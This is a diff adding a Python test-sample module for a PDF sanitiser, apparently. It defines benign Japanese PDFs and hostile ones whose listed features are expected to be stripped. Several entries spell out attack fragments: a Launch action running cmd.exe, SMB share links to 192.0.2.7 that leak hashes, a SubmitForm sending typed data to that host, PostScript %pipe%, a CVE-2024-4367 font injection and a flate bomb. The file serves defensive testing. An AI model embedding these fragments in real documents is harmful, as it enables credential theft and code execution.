@@ -1,0 +1,243 @@
+"""PDF samples: everyday Japanese documents, and one for each thing that hides in a PDF."""
+
+from __future__ import annotations
+
+from samples.build import _pdf_benign as benign
+from samples.build import _pdf_hostile as hostile
+from samples.build._pdf_hostile import SCRIPT, Build, annotation, catalog, embedded, link_with, page
+from samples.sample import Sample
+
+_SCRIPT = SCRIPT.encode()
+_SHARE = b"192.0.2.7"
+
+
+def _hostile(name: str, feature: str, about: str, build: Build, *gone: bytes, more: tuple[str, ...] = ()) -> Sample:
+    return Sample(
+        path=f"hostile/pdf/{name}.pdf",
+        kind="hostile",
+        engine="pdf",
+        about=about,
+        build=build,
+        features=(f"pdf.{feature}", *more),
+        keeps=("Kept text",),
+        gone=gone,
+    )
+
+
+_SCREEN = "/Subtype/Screen/A<</S/Rendition/OP 0/R<</Type/Rendition/S/MR/C<</S/MCD/D(//192.0.2.7/a.avi)>>>>>>"
+
+SAMPLES: tuple[Sample, ...] = (
+    Sample(
+        "benign/pdf/防災訓練通知.pdf",
+        "benign",
+        "pdf",
+        "notice with outline, links, tags, layer, pictures",
+        benign.notice,
+        verdict="disarmed",
+        keeps=benign.LINES,
+    ),
+    Sample(
+        "benign/pdf/住民票申請書.pdf", "benign", "pdf", "form to fill in", benign.form, verdict="disarmed", keeps=benign.FORM_LABELS
+    ),
+    Sample(
+        "benign/pdf/スキャン文書.pdf",
+        "benign",
+        "pdf",
+        "scanned page with invisible text",
+        benign.scan,
+        verdict="disarmed",
+        keeps=(benign.TITLE,),
+    ),
+    _hostile("javascript", "javascript", "document script in the name tree", hostile.javascript, _SCRIPT),
+    _hostile("open_action", "open_action", "script on opening", hostile.open_action, _SCRIPT, more=("pdf.javascript",)),
+    _hostile("hidden_script", "javascript", "names in #xx, at the end of a chain of 30, in a loop", hostile.hidden_script),
+    _hostile(
+        "additional_actions",
+        "additional_actions",
+        "AA of catalog, page and field",
+        hostile.additional_actions,
+        _SCRIPT,
+        more=("pdf.javascript", "pdf.form_script"),
+    ),
+    _hostile(
+        "launch", "launch", "starts a program", link_with("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"), b"cmd.exe"
+    ),
+    _hostile(
+        "goto_remote", "goto_remote", "leaks a hash over SMB", link_with("<</S/GoToR/F(//192.0.2.7/share/x.pdf)/D[0/Fit]>>"), _SHARE
+    ),
+    _hostile(
+        "goto_embedded",
+        "goto_remote",
+        "opens an embedded file",
+        link_with("<</S/GoToE/T<</R/C/N(payload.pdf)>>/D[0/Fit]>>"),
+        b"payload.pdf",
+    ),
+    _hostile("submit_form", "submit_form", "sends what was typed", link_with("<</S/SubmitForm/F(http://192.0.2.7/c)>>"), _SHARE),
+    _hostile("import_data", "import_data", "reads a file", link_with("<</S/ImportData/F(//192.0.2.7/share/x.fdf)>>"), _SHARE),
+    _hostile("reset_form", "reset_form", "empties the form", link_with("<</S/ResetForm>>")),
+    _hostile("named_action", "named_action", "menu command", link_with("<</S/Named/N/Print>>")),
+    _hostile("hide", "hide", "hides a field", link_with("<</S/Hide/T(f)/H true>>")),
+    _hostile(
+        "thread", "thread", "jumps to an article of another file", link_with("<</S/Thread/F(//192.0.2.7/x.pdf)/D 0>>"), _SHARE
+    ),
+    _hostile("transition", "transition", "page transition", page("/Trans<</Type/Trans/S/Wipe/D 5>>/Dur 3")),
+    _hostile("layers_action", "optional_content_action", "switches layers", link_with("<</S/SetOCGState/State[/Toggle]>>")),
+    _hostile("rendition", "rendition", "media from a share", annotation(_SCREEN), _SHARE),
+    _hostile("sound", "sound", "sound action", link_with("<</S/Sound/Sound null/Volume 1>>")),
+    _hostile("movie", "movie", "movie annotation", annotation("/Subtype/Movie/Movie<</F(//192.0.2.7/a.avi)>>"), _SHARE),
+    _hostile(
+        "rich_media",
+        "rich_media",
+        "Flash",
+        annotation("/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf) @spec]>>>>", embedded),
+        b"a.swf",
+    ),
+    _hostile("three_d", "3d", "3D model with a script", annotation(f"/Subtype/3D/3DD<</Type/3D/OnInstantiate({SCRIPT[:3]})>>")),
+    _hostile(
+        "unknown_action", "unknown_action", "an action of no standard", link_with("<</S/EvilAction/X(//192.0.2.7/x)>>"), _SHARE
+    ),
+    _hostile(
+        "unknown_annotation",
+        "unknown_annotation",
+        "an annotation of no standard",
+        annotation("/Subtype/Evil/X(//192.0.2.7/x)"),
+        _SHARE,
+    ),
+    _hostile(
+        "uri_schemes",
+        "uri_scheme",
+        "addresses that are not of the web",
+        hostile.uri_schemes,
+        b"javascript:",
+        b"ms-word",
+        b"calc.exe",
+        more=("pdf.uri",),
+    ),
+    _hostile("uri_base", "web_capture", "base address", catalog("/URI<</Base(http://192.0.2.7/)>>"), _SHARE),
+    _hostile(
+        "embedded_file",
+        "embedded_file",
+        "attached program",
+        catalog("/Names<</EmbeddedFiles<</Names[(payload) @spec]>>>>", embedded),
+        b"payload",
+    ),
+    _hostile(
+        "file_attachment",
+        "file_attachment",
+        "program pinned to a page",
+        annotation("/Subtype/FileAttachment/FS @spec", embedded),
+        b"payload",
+    ),
+    _hostile("collection", "collection", "portfolio", catalog("/Collection<</Type/Collection/View/T>>")),
+    _hostile("xfa", "xfa", "XFA form with a script", hostile.xfa, b"xdp", _SCRIPT),
+    _hostile(
+        "hidden_template",
+        "hidden_template",
+        "page outside the page tree",
+        hostile.hidden_template,
+        _SCRIPT,
+        more=("pdf.javascript",),
+    ),
+    _hostile("reference_xobject", "reference_xobject", "page content of a share", hostile.reference_xobject, _SHARE),
+    _hostile("opi", "opi", "image of a share", hostile.opi, _SHARE),
+    _hostile("postscript_xobject", "postscript_xobject", "PostScript for the printer", hostile.postscript_xobject, b"%pipe%"),
+    _hostile(
+        "postscript_key",
+        "postscript_xobject",
+        "PostScript beside a form",
+        hostile.postscript_key,
+        b"%pipe%",
+    ),
+    _hostile("external_stream", "external_stream", "drawing operators of a share", hostile.external_stream, _SHARE),
+    _hostile("alternate_image", "alternate_image", "another picture when printed", hostile.alternate_image),
+    _hostile("image_tail", "trailing_data", "data behind a picture's last row", hostile.image_with_tail, b"TAIL-OF-IMAGE"),
+    _hostile("thumbnail", "thumbnail", "thumbnail of an older page", hostile.thumbnail),
+    _hostile("metadata", "metadata", "author and program", hostile.metadata, b"SECRET-PRODUCER", b"SECRET-XMP"),
+    _hostile(
+        "private_data",
+        "private_data",
+        "private data of a program",
+        page("/PieceInfo<</Adobe<</Private(SECRET-PIECE)>>>>"),
+        b"SECRET-PIECE",
+    ),
+    _hostile("unknown_key", "unknown_key", "keys of no standard", page("/Evil<</X(SECRET-KEY)>>"), b"SECRET-KEY"),
+    _hostile("signature", "signature", "signed field", hostile.signature, b"adbe.pkcs7"),
+    _hostile("earlier_revision", "earlier_revision", "text of the first save", hostile.earlier_revision, b"SECRET OF"),
+    _hostile(
+        "unreferenced",
+        "unreferenced_object",
+        "script that nothing refers to",
+        hostile.unreferenced,
+        _SCRIPT,
+        more=("pdf.javascript",),
+    ),
+    _hostile(
+        "trailing_data",
+        "trailing_data",
+        "program behind the end",
+        hostile.trailing_data,
+        b"SECRET-TAIL",
+    ),
+    _hostile(
+        "leading_data",
+        "trailing_data",
+        "script before the header",
+        hostile.leading_data,
+        b"SECRET-HEAD",
+    ),
+    _hostile(
+        "content_operators",
+        "content_operator",
+        "unknown operators, unterminated string",
+        hostile.content_operators,
+        b"evil",
+        b"SECRET-OPERAND",
+    ),
+    _hostile("inline_image", "content_operator", "inline image with impossible size", hostile.inline_image, b"SECRET-INLINE"),
+    _hostile("font_matrix", "font_value", "CVE-2024-4367: string in a FontMatrix", hostile.font_matrix, b"alert"),
+    _hostile("character_map", "cmap", "PostScript in a character map", hostile.character_map, b"%pipe%", b"SECRET-CMAP"),
+    _hostile("colour_profile", "icc_profile", "colour profile that is none", hostile.colour_profile, b"SECRET-ICC"),
+    _hostile("jbig2", "image_codec", "JBIG2 picture (CVE-2021-30860 was one)", hostile.jbig2_image),
+    _hostile(
+        "broken_destination", "broken_destination", "jump to an object that is no page", link_with("<</S/GoTo/D[1 0 R/Fit]>>")
+    ),
+    _hostile("damaged", "damaged", "cross-reference table missing", hostile.damaged),
+    _hostile("owner_password", "encryption_owner", "owner password only", hostile.owner_encrypted),
+    Sample(
+        "hostile/pdf/user_password.pdf",
+        "hostile",
+        "pdf",
+        "password is himitsu",
+        hostile.user_encrypted,
+        features=(),
+        verdict="review",
+    ),
+    Sample(
+        "hostile/pdf/broken_font.pdf",
+        "hostile",
+        "pdf",
+        "font program that does not parse",
+        hostile.broken_font,
+        features=("pdf.font_program",),
+        verdict="flattened",
+    ),
+    Sample(
+        "hostile/pdf/postscript_function.pdf",
+        "hostile",
+        "pdf",
+        "PostScript outside the calculator's list",
+        hostile.postscript_function,
+        features=("pdf.postscript_function",),
+        verdict="flattened",
+    ),
+    Sample(
+        "malformed/pdf/empty_page_tree.pdf",
+        "malformed",
+        "pdf",
+        "no page",
+        hostile.empty_page_tree,
+        verdict="review",
+    ),
+    Sample("malformed/pdf/page_loop.pdf", "malformed", "pdf", "page tree that loops", hostile.page_loop, verdict="review"),
+    Sample("malformed/pdf/flate_bomb.pdf", "malformed", "pdf", "two gibibytes of drawing", hostile.flate_bomb, verdict="review"),
+)
